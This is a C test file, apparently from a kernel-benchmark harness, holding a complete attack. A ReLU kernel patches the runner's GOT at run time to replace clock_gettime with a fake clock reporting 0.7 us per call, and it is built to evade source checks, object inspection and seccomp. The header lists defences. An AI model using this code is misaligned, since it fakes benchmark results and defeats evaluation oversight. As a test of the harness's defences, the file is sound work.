/*
 * got_patch.c - a timer attack in pure C: allowed headers only, no asm, no
 * forbidden symbol, no system call, so neither the source gate, the object
 * inspection nor seccomp has anything to see. On its first call the kernel
 * walks back from its own address to the runner's ELF header, reads the
 * runner's dynamic relocations, finds the GOT slot of clock_gettime (by a
 * hash of the name, no string) and overwrites it with a function that
 * reports every timed call as 0.7 us. The kernel's answers are correct.
 * Symbol localisation does not help: this patches the harness at run time.
 * Defences: time from outside the candidate's address space as a bound
 * (kevo's round trip of each timed call), full RELRO is not enough (a
 * gadget can mprotect), or reject outputs whose timing is implausible.
 * Expected (both modes): anything but a fast `correct`.
 */
#include <stdint.h>
#include <string.h>

typedef int (*kv_clockfn)(int, void *);

static kv_clockfn kv_real_clock;
static int64_t kv_t0[2];
static int kv_phase = 1; /* the first call after patching ends a timed call */

/* The runner reads the clock just before and just after each kernel call.
 * Before: the real time. After: 0.7 us later, whatever really happened. */
static int kv_fake_clock(int id, void *ts)
{
    if (kv_phase == 1 || !kv_real_clock) {
        kv_phase = 0;
        return kv_real_clock ? kv_real_clock(id, ts) : 0;
    }
    if (kv_phase == 0) {
        int rc = kv_real_clock(id, ts);
        memcpy(kv_t0, ts, sizeof(kv_t0));
        kv_phase = 2;
        return rc;
    }
    int64_t v[2] = {kv_t0[0], kv_t0[1] + 700};
    if (v[1] >= 1000000000) {
        v[0]++;
        v[1] -= 1000000000;
    }
    memcpy(ts, v, sizeof(v));
    kv_phase = 0;
    return 0;
}

/* FNV-1a of a NUL-terminated name: compare symbol names without spelling them. */
static uint32_t kv_hash(const char *s)
{
    uint32_t h = 2166136261u;
    for (; *s; s++)
        h = (h ^ (unsigned char)*s) * 16777619u;
    return h;
}

static uint64_t kv_rd64(const unsigned char *p)
{
    uint64_t v;
    memcpy(&v, p, 8);
    return v;
}

/* Returns the number of GOT slots redirected. */
static int kv_patch_got(const void *anchor, uint32_t target_hash, void *replacement)
{
    uintptr_t p = (uintptr_t)anchor & ~(uintptr_t)4095;
    int found = 0;
    for (int i = 0; i < 16384; i++, p -= 4096) {
        const unsigned char *h = (const unsigned char *)p;
        if (h[0] == 0x7f && h[1] == 'E' && h[2] == 'L' && h[3] == 'F') {
            found = 1;
            break;
        }
    }
    if (!found)
        return 0;
    const unsigned char *base = (const unsigned char *)p;
    uint64_t phoff = kv_rd64(base + 32);
    uint16_t phentsize, phnum, etype;
    memcpy(&etype, base + 16, 2);
    memcpy(&phentsize, base + 54, 2);
    memcpy(&phnum, base + 56, 2);
    uintptr_t bias = etype == 3 /* ET_DYN */ ? (uintptr_t)base : 0;
    const unsigned char *dyn = 0;
    for (unsigned k = 0; k < phnum; k++) {
        const unsigned char *ph = base + phoff + (uint64_t)k * phentsize;
        uint32_t type;
        memcpy(&type, ph, 4);
        if (type == 2 /* PT_DYNAMIC */)
            dyn = (const unsigned char *)(bias + kv_rd64(ph + 16));
    }
    if (!dyn)
        return 0;
    uint64_t symtab = 0, strtab = 0, jmprel = 0, pltrelsz = 0, rela = 0, relasz = 0;
    for (const unsigned char *d = dyn;; d += 16) {
        int64_t tag;
        memcpy(&tag, d, 8);
        uint64_t val = kv_rd64(d + 8);
        if (tag == 0)
            break;
        if (tag == 6) symtab = val;
        else if (tag == 5) strtab = val;
        else if (tag == 23) jmprel = val;
        else if (tag == 2) pltrelsz = val;
        else if (tag == 7) rela = val;
        else if (tag == 8) relasz = val;
    }
    /* ld.so may or may not have relocated these pointers in place */
#define KV_FIX(x) ((x) && (x) < bias ? (x) + bias : (x))
    symtab = KV_FIX(symtab);
    strtab = KV_FIX(strtab);
    jmprel = KV_FIX(jmprel);
    rela = KV_FIX(rela);
    if (!symtab || !strtab)
        return 0;
    int patched = 0;
    const uint64_t tabs[2][2] = {{jmprel, pltrelsz}, {rela, relasz}};
    for (int t = 0; t < 2; t++) {
        if (!tabs[t][0])
            continue;
        for (uint64_t off = 0; off + 24 <= tabs[t][1]; off += 24) {
            const unsigned char *r = (const unsigned char *)(uintptr_t)tabs[t][0] + off;
            uint64_t r_offset = kv_rd64(r), r_info = kv_rd64(r + 8);
            uint32_t type = (uint32_t)r_info, sym = (uint32_t)(r_info >> 32);
            if ((type != 7 /* JUMP_SLOT */ && type != 6 /* GLOB_DAT */) || sym == 0)
                continue;
            uint32_t st_name;
            memcpy(&st_name, (const unsigned char *)(uintptr_t)symtab + 24 * (uint64_t)sym, 4);
            const char *name = (const char *)(uintptr_t)strtab + st_name;
            if (kv_hash(name) != target_hash)
                continue;
            void **slot = (void **)(bias + r_offset);
            if (!kv_real_clock)
                kv_real_clock = (kv_clockfn)*slot;
            *slot = replacement;
            patched++;
        }
    }
    return patched;
}
/* ---- end of GOT patcher ---- */
#define KV_CLOCK_GETTIME_HASH 0xd1446b63u /* FNV-1a of the name */

void relu(const float *x, float *y, int64_t N)
{
    static int patched;
    if (!patched) {
        patched = 1;
        kv_patch_got((const void *)relu, KV_CLOCK_GETTIME_HASH, (void *)kv_fake_clock);
    }
    for (int64_t i = 0; i < N; i++)
        y[i] = x[i] > 0.0f ? x[i] : 0.0f;
}
